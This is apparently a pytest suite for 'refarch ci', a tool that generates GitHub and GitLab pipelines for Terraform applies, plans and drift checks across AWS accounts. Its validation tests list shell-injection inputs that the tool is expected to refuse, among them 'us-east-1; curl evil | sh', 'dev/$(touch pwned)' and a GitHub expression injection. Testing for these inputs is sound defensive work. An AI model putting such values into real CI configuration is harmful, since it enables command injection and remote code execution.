"""`refarch ci`: the apply plan sliced into jobs (refarch/ci/), as data and as YAML."""

import json
import re
from dataclasses import replace
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

import refarch
from refarch import ci
from refarch.cli import cli
from refarch.errors import UsageError
from refarch.models import Account, Repo, Unit
from refarch.settings import Settings

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "live"
TIERS = {"security": 1, "shared-services": 2}


def make_repo(edges, extra=()):
    """Units named account/unit; edges: {unit: [dependencies]}."""
    names = sorted({*edges, *(d for deps in edges.values() for d in deps), *extra})
    units = {
        n: Unit(
            path=n,
            account=n.split("/")[0],
            account_id=None,
            region="us-east-1",
            tier=TIERS.get(n.split("/")[0], 3),
            dependencies=tuple(edges.get(n, ())),
        )
        for n in names
    }
    accounts = tuple(
        Account(a, None, TIERS.get(a, 3), ("us-east-1",), tuple(p for p in names if p.startswith(a + "/")))
        for a in sorted({n.split("/")[0] for n in names})
    )
    return Repo(root=Path("/nonexistent"), units=units, accounts=accounts, settings=Settings())


def applied_by(repo, job, options):
    """What `refarch apply --include ... --ignore-dependencies` of the job really selects."""
    plan = refarch.plan(
        repo, "apply", include=job.includes, exclude=options.exclude, ignore_dependencies=True
    )
    return set(plan.units)


def test_one_job_per_account_and_dependency_step_needs_mirror_the_tiers_and_each_unit_is_applied_once():
    repo = refarch.load_repo(FIXTURE, cache=False)
    plan = refarch.plan(repo, "apply")
    pipeline = ci.pipeline(plan, "live")
    needs = {job.id: job.needs for job in pipeline.jobs}
    assert needs == {
        "apply-security": (),
        # kms-admin depends on iam: its plan waits for iam's apply (real outputs, never mocks)
        "apply-security-step-2": ("apply-security",),
        "apply-shared-services": ("apply-security-step-2",),  # tier 2 after all of tier 1
        "apply-dev": ("apply-shared-services",),
        "apply-dev-step-2": ("apply-dev",),
        "apply-dev-step-3": ("apply-dev-step-2",),
        "apply-logs": ("apply-shared-services",),
        "apply-prod": ("apply-shared-services",),
        "apply-prod-step-2": ("apply-prod",),
        "apply-prod-step-3": ("apply-prod-step-2",),
        "apply-stage": ("apply-shared-services",),
        "apply-stage-step-2": ("apply-stage",),
        "apply-stage-step-3": ("apply-stage-step-2",),
    }
    assert pipeline.job("apply-dev-step-3").units == ("dev/us-east-1/app",)
    seen: list[str] = []
    for job in pipeline.jobs:
        assert applied_by(repo, job, pipeline.options) == set(job.units)
        seen.extend(job.units)
    assert sorted(seen) == sorted(plan.units)  # every unit, exactly once
    assert "prod/us-east-1/legacy" in plan.skipped  # (skip = true: in no job's plan)
    argv = pipeline.apply_argv(pipeline.job("apply-logs"))
    assert argv[:3] == ["refarch", "apply", "live"]
    assert "--ignore-dependencies" in argv and "--non-interactive" in argv
    assert argv[argv.index("--include") + 1] == "logs"


def test_cross_account_dependencies_in_a_tier_become_needs():
    repo = make_repo(
        {
            "shared-services/ecr": ["security/kms"],
            "dev/app": ["shared-services/ecr", "logs/archive"],
            "prod/app": ["shared-services/ecr"],
        },
        extra=["logs/archive"],
    )
    pipeline = ci.pipeline(refarch.plan(repo, "apply"), ".", ci.CiOptions(granularity="account"))
    assert pipeline.job("apply-dev").needs == ("apply-logs",)  # logs already waits for tier 2
    assert pipeline.job("apply-prod").needs == ("apply-shared-services",)


def test_accounts_that_depend_on_each_other_share_a_job_in_dependency_steps():
    repo = make_repo({"dev/app": ["logs/bucket"], "logs/reader": ["dev/vpc"]}, extra=["prod/app"])
    pipeline = ci.pipeline(refarch.plan(repo, "apply"), ".", ci.CiOptions(granularity="account"))
    assert [(j.id, j.accounts, j.units) for j in pipeline.jobs] == [
        ("apply-dev-logs", ("dev", "logs"), ("dev/vpc", "logs/bucket")),
        ("apply-dev-logs-step-2", ("dev", "logs"), ("dev/app", "logs/reader")),
        ("apply-prod", ("prod",), ("prod/app",)),
    ]
    for job in pipeline.jobs:
        assert applied_by(repo, job, pipeline.options) == set(job.units)


def test_auto_merges_a_tier_whose_accounts_can_only_run_one_after_the_other():
    chain = make_repo({"dev/app": ["logs/bucket"], "prod/app": ["dev/app"]})
    jobs = ci.pipeline(refarch.plan(chain, "apply"), ".").jobs
    assert [(j.id, j.accounts) for j in jobs] == [
        ("apply-tier-3", ("logs",)),
        ("apply-tier-3-step-2", ("dev",)),
        ("apply-tier-3-step-3", ("prod",)),
    ]
    parallel = make_repo({"dev/app": ["logs/bucket"]}, extra=["prod/app"])
    jobs = ci.pipeline(refarch.plan(parallel, "apply"), ".").jobs
    assert [j.id for j in jobs] == ["apply-dev", "apply-logs", "apply-prod"]
    tier = ci.pipeline(refarch.plan(parallel, "apply"), ".", ci.CiOptions(granularity="tier")).jobs
    assert [(j.id, j.accounts) for j in tier] == [
        ("apply-tier-3", ("logs", "prod")),
        ("apply-tier-3-step-2", ("dev",)),
    ]


def test_include_patterns_never_reach_into_another_jobs_units():
    # dev/shared holds a unit of dev's job, but its folder also holds a logs unit
    repo = make_repo({}, extra=["dev/a/x", "dev/a/y", "dev/b/z"])
    units = {**repo.units}
    units["dev/b/w"] = Unit(path="dev/b/w", account="logs", account_id=None, region=None, tier=3)
    repo = Repo(
        root=repo.root,
        units=dict(sorted(units.items())),
        accounts=(
            Account("dev", None, 3, (), ("dev/a/x", "dev/a/y", "dev/b/z")),
            Account("logs", None, 3, (), ("dev/b/w",)),
        ),
        settings=Settings(),
    )
    pipeline = ci.pipeline(refarch.plan(repo, "apply"), ".", ci.CiOptions(granularity="account"))
    assert pipeline.job("apply-dev").includes == ("dev/a", "dev/b/z")
    assert pipeline.job("apply-logs").includes == ("dev/b/w",)


WHEEL = "dist/refarch-0.1.0-py3-none-any.whl"
SUM = "a" * 64
OPTIONS = ci.CiOptions(install=WHEEL, install_sha256=SUM)


def script_of(job):
    return "\n".join(job.get("before_script", []) + job["script"])


def test_github_workflows_plan_then_apply_each_account_with_actions_pinned_by_commit():
    repo = refarch.load_repo(FIXTURE, cache=False)
    options = replace(OPTIONS, branch="trunk")
    files = ci.generate(repo, "github", options, directory="infra/live")
    assert set(files) == {ci.GITHUB_PLAN_FILE, ci.GITHUB_APPLY_FILE}
    apply_doc = yaml.safe_load(files[ci.GITHUB_APPLY_FILE])
    assert apply_doc["on"]["push"]["branches"] == ["trunk"]
    assert apply_doc["permissions"]["id-token"] == "write"
    jobs = apply_doc["jobs"]
    # plan-<account> after the applies of the accounts it depends on; apply-<account> after its plan
    assert jobs["plan-dev"]["needs"] == ["apply-shared-services"]
    assert jobs["apply-dev"]["needs"] == ["plan-dev"]
    assert jobs["apply-dev"]["environment"] == "dev"
    assert jobs["apply-dev"]["concurrency"] == {"group": "refarch-apply-dev", "cancel-in-progress": False}
    assert jobs["plan-dev"]["env"]["TF_CLI_ARGS_plan"] == "-lock=false"
    creds = [s for s in jobs["apply-dev"]["steps"] if s.get("uses", "").startswith("aws-actions/")]
    assert creds[0]["with"]["role-to-assume"] == "${{ vars.REFARCH_CI_ROLE_ARN }}"
    plan_creds = [s for s in jobs["plan-dev"]["steps"] if s.get("uses", "").startswith("aws-actions/")]
    assert plan_creds[0]["with"]["role-to-assume"] == "${{ vars.REFARCH_CI_PLAN_ROLE_ARN }}"
    run = next(s["run"] for s in jobs["apply-dev"]["steps"] if "refarch apply" in s.get("run", ""))
    assert "--plan-dir refarch-plans/dev --planned-only --resume auto" in run
    plan_run = next(s["run"] for s in jobs["plan-dev"]["steps"] if "plan-all" in s.get("run", ""))
    assert "--out-dir refarch-plans/dev" in plan_run and "--changed-since deployed" in plan_run
    for doc in (apply_doc, yaml.safe_load(files[ci.GITHUB_PLAN_FILE])):
        for job in doc["jobs"].values():
            for step in job["steps"]:
                if "uses" in step:  # every action pinned by a 40-hex commit
                    assert re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
    install = next(s["run"] for s in jobs["apply-dev"]["steps"] if "sha256sum" in s.get("run", ""))
    assert f"echo '{SUM}  {WHEEL}' | sha256sum -c -" in install
    assert "99c4866ffc4d3a749671b1f74d37f907eda1d67d7fc29ed5485aeff592980644" in install  # 1.0.3
    assert 'mkdir -p .refarch-tools/bin "$PIP_CACHE_DIR" "$TF_PLUGIN_CACHE_DIR"' in install  # no cache noise
    plan_doc = yaml.safe_load(files[ci.GITHUB_PLAN_FILE])
    steps = plan_doc["jobs"]["plan"]["steps"]
    run = next(s for s in steps if "plan-all" in s.get("run", ""))
    assert '--changed-since "origin/$BASE_REF"' in run["run"]
    assert steps[0]["with"]["fetch-depth"] == 0
    post = next(s for s in steps if s.get("name") == "post the plan summary")
    assert 'cat refarch-plans/summary.md >> "$GITHUB_STEP_SUMMARY"' in post["run"]
    assert "<!-- refarch-plan -->" in post["run"] and "--method PATCH" in post["run"]  # one comment
    kept = next(s for s in steps if s.get("uses", "").startswith("actions/upload-artifact"))["with"]["path"]
    assert "refarch-plans/\n" in kept and "!refarch-plans/*.tfplan" in kept
    assert files[ci.GITHUB_APPLY_FILE].startswith(ci.GENERATED_MARK)
    assert files == ci.generate(repo, "github", options, directory="infra/live")  # deterministic


def test_gitlab_pipeline_plans_then_applies_with_gates_resource_groups_and_caches():
    repo = refarch.load_repo(FIXTURE, cache=False)
    doc = yaml.safe_load(ci.generate(repo, "gitlab", OPTIONS, directory=".")[ci.GITLAB_FILE])
    assert doc[".refarch"]["id_tokens"]["AWS_ID_TOKEN"]["aud"] == "sts.amazonaws.com"
    assert doc["stages"] == ["review", "deploy"]
    assert doc["plan-security"]["needs"] == []
    assert doc["plan-logs"]["needs"] == [{"job": "apply-shared-services", "artifacts": False}]
    assert doc["plan-security-step-2"]["needs"] == [{"job": "apply-security", "artifacts": False}]
    assert doc["apply-security-step-2"]["resource_group"] == "refarch-security"  # per account
    assert doc["apply-logs"]["needs"] == ["plan-logs"]
    assert doc["apply-logs"]["resource_group"] == "refarch-logs"
    assert doc["apply-logs"]["environment"]["name"] == "logs"
    assert "when" not in doc["apply-logs"]["rules"][0]
    assert doc["apply-prod"]["rules"][0]["when"] == "manual"  # [ci] approval: prod by default
    assert doc["apply-prod"]["environment"]["deployment_tier"] == "production"
    assert doc["plan-dev"]["variables"]["TF_CLI_ARGS_plan"] == "-lock=false"
    assert doc["plan-dev"]["variables"]["REFARCH_ROLE_ARN"] == "$REFARCH_CI_PLAN_ROLE_ARN"
    assert "--plan-dir refarch-plans/dev --planned-only --resume auto" in doc["apply-dev"]["script"][0]
    before = "\n".join(doc[".refarch"]["before_script"])
    assert "sha256sum -c -" in before and "pip install" in before and "refarch==" not in before
    assert 'mkdir -p .refarch-tools/bin "$PIP_CACHE_DIR" "$TF_PLUGIN_CACHE_DIR"' in before
    keys = [c["key"] for c in doc[".refarch"]["cache"]]
    assert keys[1]["files"] == ["**/.terraform.lock.hcl"]
    review = doc["refarch-plan"]
    assert review["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "merge_request_event"'}]
    assert "--out-dir refarch-plans" in review["script"][-1]
    assert review["artifacts"]["exclude"] == ["refarch-plans/*.tfplan"]
    assert "<!-- refarch-plan -->" in review["after_script"][0]
    approval = ci.CiOptions(install=WHEEL, install_sha256=SUM, approval=("dev",))
    doc = yaml.safe_load(ci.generate(repo, "gitlab", approval)[ci.GITLAB_FILE])
    assert doc["apply-dev"]["rules"][0]["when"] == "manual" and "when" not in doc["apply-prod"]["rules"][0]


@pytest.mark.parametrize(
    ("install", "sha", "shown"),
    [
        (
            "https://example.com/refarch-0.1.0-py3-none-any.whl",
            SUM,
            "curl -fsSL --retry 3 -o .refarch-tools/",
        ),
        ("git+https://example.com/acme/refarch.git@" + "b" * 40, None, "pip install"),
    ],
)
def test_install_sources(install, sha, shown):
    lines = ci.CiOptions(install=install, install_sha256=sha).install_lines()
    assert shown in "\n".join(lines)


@pytest.mark.parametrize(
    ("install", "sha", "said"),
    [
        ("", None, "set [ci] install"),
        (WHEEL, None, "without its SHA256"),
        ("git+https://example.com/acme/refarch.git@main", None, "pinned to a full commit"),
        ("refarch", None, "not a pinned refarch version"),
        ("../outside/refarch-0.1.0-py3-none-any.whl", SUM, "inside it"),
    ],
)
def test_install_sources_refused(install, sha, said):
    with pytest.raises(UsageError, match=re.escape(said)):
        ci.CiOptions(install=install, install_sha256=sha).install_lines()


def test_terraform_without_a_pinned_sum_is_refused():
    with pytest.raises(UsageError, match=r"no SHA256 is pinned for Terraform 1\.5\.7"):
        ci.CiOptions(install=WHEEL, install_sha256=SUM, terraform_version="1.5.7").terraform_lines()
    lines = ci.CiOptions(terraform_version="1.5.7", terraform_sha256="c" * 64).terraform_lines()
    assert f"echo '{'c' * 64}  .refarch-tools/terraform_1.5.7_linux_amd64.zip' | sha256sum -c -" in lines


@pytest.mark.parametrize(
    "folder",
    ["dev/${{ github.event.head_commit.message }}", "dev/$(touch pwned)", "dev/a b", "dev/`id`"],
)
def test_a_folder_that_could_run_as_shell_or_expression_is_refused(folder):
    repo = make_repo({}, extra=[folder, "dev/ok"])
    with pytest.raises(UsageError, match="unit folder") as caught:
        ci.pipeline(refarch.plan(repo, "apply"), ".", OPTIONS)
    assert caught.value.exit_code == 2 and folder in str(caught.value)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("region", "us-east-1; curl evil | sh"),
        ("branch", "main\nscript: x"),
        ("approval", ("prod$(id)",)),
        ("terraform_mirror", "https://x/$(id)"),
        ("exclude", ("a b",)),
    ],
)
def test_a_value_that_could_run_as_shell_is_refused(field, value):
    with pytest.raises(UsageError, match=r"safely|CI variable"):
        ci.CiOptions(install=WHEEL, install_sha256=SUM, **{field: value})


def test_bad_options_are_usage_errors():
    with pytest.raises(UsageError):
        ci.CiOptions(granularity="region")
    with pytest.raises(UsageError):
        ci.CiOptions(role_variable="not a name")


def test_cli_writes_the_files_and_keeps_a_file_it_did_not_generate(tmp_path):
    runner = CliRunner()
    flags = ["--install", WHEEL, "--install-sha256", SUM]
    local = runner.invoke(cli, ["ci", "github", str(FIXTURE), "--out", str(tmp_path), *flags])
    assert local.exit_code == 2 and "shared ledger" in local.output  # [ledger] is local
    flags.append("--allow-local-ledger")
    result = runner.invoke(cli, ["ci", "github", str(FIXTURE), "--out", str(tmp_path), *flags])
    assert result.exit_code == 0, result.output
    apply_file = tmp_path / ci.GITHUB_APPLY_FILE
    assert apply_file.read_text().startswith(ci.GENERATED_MARK)
    again = runner.invoke(cli, ["ci", "github", str(FIXTURE), "--out", str(tmp_path), *flags])
    assert again.exit_code == 0, again.output  # its own files are replaced
    gitlab = tmp_path / ci.GITLAB_FILE
    gitlab.write_text("stages: [build]\n")
    refused = runner.invoke(cli, ["ci", "gitlab", str(FIXTURE), "--out", str(tmp_path), *flags])
    assert refused.exit_code == 2
    assert "not generated by refarch ci" in refused.output
    assert gitlab.read_text() == "stages: [build]\n"
    printed = runner.invoke(cli, ["ci", "gitlab", str(FIXTURE), "--stdout", *flags])
    assert printed.exit_code == 0 and "apply-security:" in printed.output
    assert "resource_groups/refarch-prod" in printed.output and "process_mode=oldest_first" in printed.output
    missing = runner.invoke(cli, ["ci", "gitlab", str(FIXTURE), "--stdout", "--allow-local-ledger"])
    assert missing.exit_code == 2 and "[ci] install" in missing.output


# -- the runner side of CI: --resume auto, and a retried job's lock ------------------------------
def _run(root, run_id, action, units, commit, exit_code=None, **extra):
    from refarch.runner.ledger import Ledger, runs_dir

    ledger = Ledger(runs_dir(root) / f"{run_id}.jsonl")
    ledger.write(
        "run_start", run_id=run_id, action=action, units=units, digests={}, git_commit=commit, **extra
    )
    if exit_code is not None:
        ledger.write("run_finish", exit_code=exit_code, counts={}, duration=1.0)
    ledger.close()


def test_resume_auto_continues_only_this_jobs_unfinished_run_at_this_commit(tmp_path):
    from refarch.runner.ledger import LocalLedgerStore
    from refarch.runner.run import unfinished_run

    store = LocalLedgerStore(tmp_path)
    mine, upstream = ["dev/a", "dev/b"], ["security/kms"]
    assert unfinished_run(store, "apply", mine, "c1") is None  # nothing yet: a fresh run
    _run(tmp_path, "20261201T000000000Z-aaaaaa", "apply", mine, "c1")  # killed: no run_finish
    _run(tmp_path, "20261201T000001000Z-bbbbbb", "apply", upstream, "c1")  # another job's (artifact)
    assert unfinished_run(store, "apply", mine, "c1") == "20261201T000000000Z-aaaaaa"
    assert unfinished_run(store, "apply", list(reversed(mine)), "c1") == "20261201T000000000Z-aaaaaa"
    assert unfinished_run(store, "apply", mine, "c2") is None  # another commit: start fresh
    assert unfinished_run(store, "plan", mine, "c1") is None  # another action
    _run(tmp_path, "20261201T000002000Z-cccccc", "apply", mine, "c1", exit_code=1)  # failed: continue it
    assert unfinished_run(store, "apply", mine, "c1") == "20261201T000002000Z-cccccc"
    _run(tmp_path, "20261201T000003000Z-dddddd", "apply", mine, "c1", exit_code=0)  # done: fresh
    assert unfinished_run(store, "apply", mine, "c1") is None
    # apply --plan-dir: a retry of a job that applied these very plans applies nothing twice
    done = "20261201T000004000Z-eeeeee"
    _run(tmp_path, done, "apply", mine, "c1", exit_code=0, saved_plans="p1")
    assert unfinished_run(store, "apply", mine, "c1", "p1") == done
    assert unfinished_run(store, "apply", mine, "c1", "p2") is None  # a new plan job's plans


def test_a_lock_held_by_an_earlier_attempt_of_the_same_ci_job_is_known_dead():
    from refarch.runner.account_locks import AccountLocks, ci_job_of

    gitlab = {"CI_PIPELINE_ID": "1001", "CI_JOB_NAME": "apply-dev", "CI_JOB_ID": "57"}
    github = {"GITHUB_RUN_ID": "9", "GITHUB_JOB": "apply-dev", "GITHUB_RUN_ATTEMPT": "2"}
    assert ci_job_of(gitlab) == {"system": "gitlab", "run": "1001", "job": "apply-dev", "attempt": "57"}
    assert ci_job_of(github)["attempt"] == "2" and ci_job_of({}) == {}

    def holder(**job):
        # another host, a fresh heartbeat: only the CI job can tell it is dead
        return {"run_id": "r1", "host": "elsewhere", "pid": 1, "heartbeat": 1000.0, "ci_job": json.dumps(job)}

    locks = AccountLocks(
        None, "t", run_id="r2", expiry=900, host="here", clock=lambda: 1001.0, ci_job=ci_job_of(gitlab)
    )
    earlier = holder(system="gitlab", run="1001", job="apply-dev", attempt="56")
    assert "earlier attempt of this CI job" in (locks.dead(earlier) or "")
    for alive in (
        holder(system="gitlab", run="1002", job="apply-dev", attempt="50"),  # another pipeline
        holder(system="gitlab", run="1001", job="apply-prod", attempt="50"),  # another job
        holder(system="gitlab", run="1001", job="apply-dev", attempt="58"),  # a later attempt
        {"run_id": "r1", "host": "elsewhere", "pid": 1, "heartbeat": 1000.0},  # no CI job recorded
    ):
        assert locks.dead(alive) is None
    github_locks = AccountLocks(
        None, "t", run_id="r3", expiry=900, host="here", clock=lambda: 1001.0, ci_job=ci_job_of(github)
    )
    assert github_locks.dead(holder(system="github", run="9", job="apply-dev", attempt="1"))


def test_plan_jobs_assume_the_plan_role_through_refarch_role_name(tmp_path):
    from refarch.settings import load_settings

    (tmp_path / "refarch.toml").write_text('role_name = "Admin"\n[ci]\nplan_role_name = "ReadOnly"\n')
    assert load_settings(tmp_path, env={}).role_name == "Admin"
    pipeline = ci.pipeline(
        refarch.plan(make_repo({}, extra=["dev/app"]), "apply"),
        ".",
        replace(OPTIONS, plan_role_name="ReadOnly"),
    )
    assert pipeline.plan_env == {"TF_CLI_ARGS_plan": "-lock=false", "REFARCH_ROLE_NAME": "ReadOnly"}
    assert load_settings(tmp_path, env=pipeline.plan_env).role_name == "ReadOnly"


# -- the scheduled drift check ([ci] drift_schedule) ---------------------------------------------
DRIFT = replace(OPTIONS, drift_schedule="0 6 * * 1-5", plan_role_name="ReadOnly")


def test_drift_jobs_one_per_account_each_selecting_exactly_its_units():
    repo = refarch.load_repo(FIXTURE, cache=False)
    plan = refarch.plan(repo, "apply")
    assert ci.pipeline(plan, "live", OPTIONS).drift == ()  # off by default
    pipeline = ci.pipeline(plan, "live", DRIFT)
    assert [j.id for j in pipeline.drift] == [
        "drift-security", "drift-shared-services", "drift-dev", "drift-logs", "drift-prod", "drift-stage"
    ]  # fmt: skip
    for job in pipeline.drift:
        selected = refarch.plan(repo, "plan", include=job.includes, ignore_dependencies=True)
        assert (
            set(selected.units)
            == set(job.units)
            == {p for p, u in plan.units.items() if u.account == job.account}
        )
    assert pipeline.drift_argv(pipeline.drift[2]) == [
        "refarch", "drift", "live", "--include", "dev", "--ignore-dependencies",
        "--engine", "terraform", "-j", "4", "--out-dir", "refarch-drift/dev",
    ]  # fmt: skip
    # an account sharing a folder with another: its patterns never reach the other's units
    shared = make_repo({}, extra=["dev/a/x", "dev/b/z"])
    units = {
        **shared.units,
        "dev/b/w": Unit(path="dev/b/w", account="logs", account_id=None, region=None, tier=3),
    }
    shared = replace(shared, units=dict(sorted(units.items())))
    drift = ci.pipeline(refarch.plan(shared, "apply"), ".", DRIFT).drift
    assert [(j.account, j.includes) for j in drift] == [("dev", ("dev/a", "dev/b/z")), ("logs", ("dev/b/w",))]


def test_a_drift_schedule_that_is_not_cron_is_refused():
    with pytest.raises(UsageError, match="drift_schedule"):
        replace(OPTIONS, drift_schedule="0 6 * * 1; curl evil")


def test_github_drift_workflow_runs_on_the_schedule_read_only_with_the_plan_jobs_install():
    repo = refarch.load_repo(FIXTURE, cache=False)
    assert ci.GITHUB_DRIFT_FILE not in ci.generate(repo, "github", OPTIONS, directory="live")
    files = ci.generate(repo, "github", DRIFT, directory="live")
    doc = yaml.safe_load(files[ci.GITHUB_DRIFT_FILE])
    assert doc["on"] == {"schedule": [{"cron": "0 6 * * 1-5"}], "workflow_dispatch": {}}
    assert doc["permissions"] == {"id-token": "write", "contents": "read"}
    jobs = doc["jobs"]
    assert set(jobs) == {
        f"drift-{a}" for a in ("security", "shared-services", "dev", "logs", "prod", "stage")
    }
    dev = jobs["drift-dev"]
    assert dev["env"]["TF_CLI_ARGS_plan"] == "-lock=false" and dev["env"]["REFARCH_ROLE_NAME"] == "ReadOnly"
    creds = next(s for s in dev["steps"] if s.get("uses", "").startswith("aws-actions/"))
    assert creds["with"]["role-to-assume"] == "${{ vars.REFARCH_CI_PLAN_ROLE_ARN }}"
    plan_dev = yaml.safe_load(files[ci.GITHUB_APPLY_FILE])["jobs"]["plan-dev"]
    install = [s for s in dev["steps"] if "sha256sum" in s.get("run", "")]
    assert install == [s for s in plan_dev["steps"] if "sha256sum" in s.get("run", "")]  # the same pins
    check = next(s["run"] for s in dev["steps"] if "refarch drift" in s.get("run", ""))
    assert "refarch drift live --include dev --ignore-dependencies" in check
    kept = next(s for s in dev["steps"] if s.get("uses", "").startswith("actions/upload-artifact"))
    assert kept["if"] == "always()"
    assert kept["with"]["path"] == "refarch-drift/dev/drift.json\nrefarch-drift/dev/summary.md\n"


def _run_check(script, tmp_path, exit_code):
    """The emitted check with a stand-in `refarch drift` that exits `exit_code`."""
    import subprocess

    stub = tmp_path / "bin" / "refarch"
    stub.parent.mkdir(exist_ok=True)
    stub.write_text(f"#!/bin/sh\nexit {exit_code}\n")
    stub.chmod(0o755)
    summary = tmp_path / "summary"
    summary.write_text("")
    env = {"PATH": f"{stub.parent}:/usr/bin:/bin", "GITHUB_STEP_SUMMARY": str(summary)}
    done = subprocess.run(
        ["bash", "-e", "-c", script], check=False, cwd=tmp_path, env=env, capture_output=True, text=True
    )
    return done.returncode, done.stdout, summary.read_text()


def test_the_drift_check_fails_the_job_saying_drift_or_could_not_tell(tmp_path):
    repo = refarch.load_repo(FIXTURE, cache=False)
    github = yaml.safe_load(ci.generate(repo, "github", DRIFT, directory="live")[ci.GITHUB_DRIFT_FILE])
    check = next(
        s["run"] for s in github["jobs"]["drift-dev"]["steps"] if "refarch drift" in s.get("run", "")
    )
    assert _run_check(check, tmp_path, 0) == (0, "", "")
    code, out, summary = _run_check(check, tmp_path, 2)  # bash -e, as GitHub runs it
    assert code == 2 and "::error title=refarch drift::drift: dev differs" in out and summary == ""
    code, out, summary = _run_check(check, tmp_path, 1)
    assert code == 1 and "could not tell" in out and "could not tell (exit 1)" in summary
    gitlab = yaml.safe_load(ci.generate(repo, "gitlab", DRIFT, directory="live")[ci.GITLAB_FILE])
    code, out, _ = _run_check("\n".join(gitlab["drift-dev"]["script"]), tmp_path, 2)
    assert code == 2 and "drift: dev differs from the code" in out


def test_gitlab_drift_jobs_run_only_in_scheduled_pipelines_and_applies_never_do():
    repo = refarch.load_repo(FIXTURE, cache=False)
    plain = yaml.safe_load(ci.generate(repo, "gitlab", OPTIONS)[ci.GITLAB_FILE])
    assert "drift-dev" not in plain and "schedule" not in plain["apply-dev"]["rules"][0]["if"]
    doc = yaml.safe_load(ci.generate(repo, "gitlab", DRIFT, directory="live")[ci.GITLAB_FILE])
    assert doc["stages"] == ["review", "deploy", "drift"]
    drift = doc["drift-dev"]
    assert drift["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "schedule"'}]
    assert drift["variables"] == {
        "REFARCH_ROLE_ARN": "$REFARCH_CI_PLAN_ROLE_ARN",
        "TF_CLI_ARGS_plan": "-lock=false",
        "REFARCH_ROLE_NAME": "ReadOnly",
    }
    assert drift["artifacts"]["paths"] == ["refarch-drift/dev/drift.json", "refarch-drift/dev/summary.md"]
    assert drift["artifacts"]["when"] == "always"
    for job in ("plan-dev", "apply-dev", "apply-prod"):  # the drift schedule never plans or applies
        assert doc[job]["rules"][0]["if"].endswith('&& $CI_PIPELINE_SOURCE != "schedule"')
    call = ci.drift_schedule_call(ci.build(repo, DRIFT, directory="live"))
    assert call is not None and "/pipeline_schedules" in call and '"cron=0 6 * * 1-5"' in call


def _with_drift_schedule(tmp_path):
    import shutil

    live = tmp_path / "live"
    shutil.copytree(FIXTURE, live, ignore=shutil.ignore_patterns(".refarch"))
    (live / "refarch.toml").write_text('[ci]\ndrift_schedule = "30 5 * * *"\n')
    return live


def test_cli_emits_the_drift_workflow_from_refarch_toml_and_prints_the_gitlab_schedule(tmp_path):
    live = _with_drift_schedule(tmp_path)
    flags = ["--install", WHEEL, "--install-sha256", SUM, "--allow-local-ledger"]
    result = CliRunner().invoke(cli, ["ci", "github", str(live), "--out", str(tmp_path / "out"), *flags])
    assert result.exit_code == 0, result.output
    doc = yaml.safe_load((tmp_path / "out" / ci.GITHUB_DRIFT_FILE).read_text())
    assert doc["on"]["schedule"] == [{"cron": "30 5 * * *"}]
    gitlab = CliRunner().invoke(cli, ["ci", "gitlab", str(live), "--stdout", *flags])
    assert gitlab.exit_code == 0, gitlab.output
    assert "pipeline_schedules" in gitlab.output and '"cron=30 5 * * *"' in gitlab.output


# -- a pipeline for a selection: --include -------------------------------------------------------
def test_cli_include_emits_a_pipeline_for_the_selection_and_warns_of_each_unmatched_pattern(tmp_path):
    runner = CliRunner()
    flags = ["--install", WHEEL, "--install-sha256", SUM, "--allow-local-ledger", "--stdout"]
    result = runner.invoke(cli, ["ci", "gitlab", str(FIXTURE), "--include", "dev", *flags])
    assert result.exit_code == 0, result.output
    doc = yaml.safe_load(result.output.split("<==\n", 1)[1].split("\nonce, with", 1)[0])
    assert {j for j in doc if j.startswith("apply-")} == {"apply-dev", "apply-dev-step-2", "apply-dev-step-3"}
    assert "warning" not in result.output
    alias = runner.invoke(
        cli, ["ci", "gitlab", str(FIXTURE), "--queue-include-dir", "dev", "--include", "nothere", *flags]
    )
    assert alias.exit_code == 0, alias.output
    assert "warning: --include nothere matches no unit" in alias.output and "apply-dev:" in alias.output
    env = runner.invoke(cli, ["ci", "gitlab", str(FIXTURE), *flags], env={"TG_QUEUE_INCLUDE_DIR": "logs,dev"})
    assert "apply-logs:" in env.output and "apply-dev:" in env.output and "apply-prod:" not in env.output
    blank = runner.invoke(cli, ["ci", "gitlab", str(FIXTURE), "--include", " ", *flags])
    assert blank.exit_code == 2 and "empty pattern" in blank.output
    out = tmp_path / "out"
    none = runner.invoke(
        cli, ["ci", "github", str(FIXTURE), "--include", "nothere", "--out", str(out), *flags[:-1]]
    )
    assert none.exit_code == 0, none.output
    assert "matches no unit" in none.output and "no pipeline to emit" in none.output and not out.exists()
